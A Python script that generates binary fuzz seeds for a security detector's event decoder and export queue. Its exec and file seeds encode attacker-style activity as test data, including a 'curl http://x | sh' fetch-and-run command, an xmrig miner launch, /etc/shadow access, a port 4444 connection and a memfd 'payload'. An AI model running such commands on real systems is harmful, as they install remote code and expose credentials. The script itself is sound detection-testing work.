#!/usr/bin/env python3
"""Writes the binary seeds of the `decode` and `queue` fuzz targets into corpus/.

The records follow the `#[repr(C)]` layouts of detector-common (little-endian); the queue
segments follow the frame format of detector/src/export/queue.rs (`len: u32 LE | crc32: u32
LE | flags: u8 | payload`). Rerun after changing either: `python3 fuzz/seeds.py`.
"""

import os
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))


def write(target, name, data):
    path = os.path.join(HERE, "corpus", target, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def padded(text, size):
    data = text.encode()
    assert len(data) <= size
    return data + b"\0" * (size - len(data))


# EventKind
EXEC, EXIT, FILE, RENAME, CONNECT, SYSCALL = 1, 2, 3, 4, 5, 6


def header(kind, comm="sh", flags=0, pid=4242, ns_tgid=7):
    # kind, flags, ktime_ns, cgroup_id, pid, tgid, ppid, uid, gid, ns_tgid, comm[16]
    return struct.pack(
        "<IIQQIIIIII16s", kind, flags, 123_456_789, 7, pid, pid, 1, 0, 0, ns_tgid,
        padded(comm, 16),
    )


def exec_record(filename, argv, flags=0, truncated_args=False):
    args = b"".join(a.encode() + b"\0" for a in argv)
    if truncated_args:
        args = args[:-3]
    return (
        header(EXEC)
        + struct.pack("<IIIIQ", flags, len(filename), len(args), 0, 9)
        + padded(filename, 256)
        + args + b"\0" * (2048 - len(args))
    )


def file_fixed(op, path, flags=0, klass=0, open_flags=0, dirfd=-100, result=3, comm="sh"):
    return (
        header(FILE, comm)
        + struct.pack("<IIIIiIIi", op, flags, klass, open_flags, dirfd, len(path), 0, result)
    )


def file_record(op, path, **kw):
    # Sent cut after the path's NUL, rounded up to 8 bytes (FileEvent::record_bytes).
    fixed = file_fixed(op, path, **kw)
    used = len(fixed) + len(path) + 1
    return fixed + padded(path, (used + 7) // 8 * 8 - len(fixed))


def rename_record(op, path, target, flags=0):
    fixed = file_fixed(op, path, flags=flags)[4:]
    fixed = struct.pack("<I", RENAME) + fixed
    return (
        fixed + padded(path, 256)
        + struct.pack("<Ii", len(target), -100) + padded(target, 256)
    )


def connect_record(family, protocol, port, daddr, blocked=0):
    return header(CONNECT, "curl") + struct.pack("<IIII16s", family, protocol, port, blocked, daddr)


def syscall_record(op, nr, result, args, text="", aux=""):
    args = list(args) + [0] * (4 - len(args))
    return (
        header(SYSCALL)
        + struct.pack("<IIq4QII", op, nr, result, *args, len(text), len(aux))
        + padded(text, 256) + padded(aux, 32)
    )


def decode_seeds():
    write("decode", "exec-shell", exec_record("/bin/sh", ["sh", "-c", "curl http://x | sh"], flags=1 << 3))
    write("decode", "exec-truncated-args", exec_record("/usr/bin/xmrig", ["xmrig", "--donate-level", "1"], flags=1, truncated_args=True))
    write("decode", "exit-killed", header(EXIT) + struct.pack("<II", 9, 0))
    write("decode", "file-open-write", file_record(1, "/etc/shadow", flags=1 | 8, klass=1 | 2, open_flags=0o1101))
    write("decode", "file-unlink-dots", file_record(2, "/var/log/../log/auth.log", flags=1 << 6, klass=8))
    write("decode", "file-open-proc-self", file_record(1, "/proc/4242/task/4242/comm", flags=1 | 8, open_flags=1))
    write("decode", "file-chmod-relative", file_record(3, "x.sh", flags=2, open_flags=0o4755, dirfd=5))
    write("decode", "rename", rename_record(4, "/tmp/p", "/usr/bin/ls"))
    write("decode", "symlink", rename_record(7, "/etc/shadow", "/tmp/s"))
    write("decode", "connect-v4", connect_record(2, 6, 4444, bytes([10, 0, 0, 1]) + b"\0" * 12))
    write("decode", "connect-v6-blocked", connect_record(10, 17, 53, bytes.fromhex("fd00ec20000000000000000000000254"), 1))
    write("decode", "syscall-setuid", syscall_record(11, 117, 0, [0xFFFFFFFF, 0, 0xFFFFFFFF]))
    write("decode", "syscall-mount", syscall_record(3, 165, -1, [0x1000], "/host", "proc"))
    write("decode", "syscall-memfd", syscall_record(8, 319, 3, [1], "payload"))
    # Broken: a header alone, a file record cut inside its path, an unknown kind and op.
    write("decode", "header-only", header(EXEC))
    write("decode", "file-cut", file_record(1, "/etc/passwd")[:100])
    write("decode", "unknown-kind", header(99) + b"\0" * 64)
    write("decode", "file-unknown-op", file_record(42, "/x"))
    write("decode", "rename-in-file-record", file_record(4, "/x"))


def frame(payload, protected=False):
    flags = 1 if protected else 0
    crc = zlib.crc32(bytes([flags]) + payload)
    return struct.pack("<IIB", len(payload), crc, flags) + payload


def queue_input(segments, ack=None, push=False, drop_oldest=False, small=False):
    """The `queue` target's input: flags, the ack file, then (id, bytes) per segment."""
    flags = len(segments) | (4 if ack is not None else 0) | (8 if push else 0)
    flags |= (16 if drop_oldest else 0) | (32 if small else 0)
    out = bytes([flags])
    if ack is not None:
        out += bytes([len(ack)]) + ack
    for seg_id, data in segments:
        out += struct.pack("<BH", seg_id, len(data)) + data
    return out


def queue_seeds():
    records = [frame(b'{"kind":"exec","pid":%d}' % i, protected=(i == 2)) for i in range(4)]
    one = b"".join(records)
    write("queue", "one-segment", queue_input([(0, one)]))
    write("queue", "acked-half", queue_input([(3, one)], ack=b"3 %d" % len(records[0] + records[1])))
    write("queue", "two-segments", queue_input([(0, one), (1, records[0])], ack=b"0 0"))
    write("queue", "torn-tail", queue_input([(0, one + records[0][:7])]))
    damaged = bytearray(one)
    damaged[len(records[0]) + 5] ^= 0xFF
    write("queue", "damaged-middle", queue_input([(0, bytes(damaged)), (1, one)]))
    write("queue", "push-drop-oldest", queue_input([(0, one), (1, one)], push=True, drop_oldest=True, small=True))
    write("queue", "push-block", queue_input([(5, one)], ack=b"5 0", push=True))
    write("queue", "ack-past-end", queue_input([(0, one)], ack=b"7 0"))
    write("queue", "ack-garbage", queue_input([(0, one)], ack=b"x 1\n2"))


if __name__ == "__main__":
    decode_seeds()
    queue_seeds()
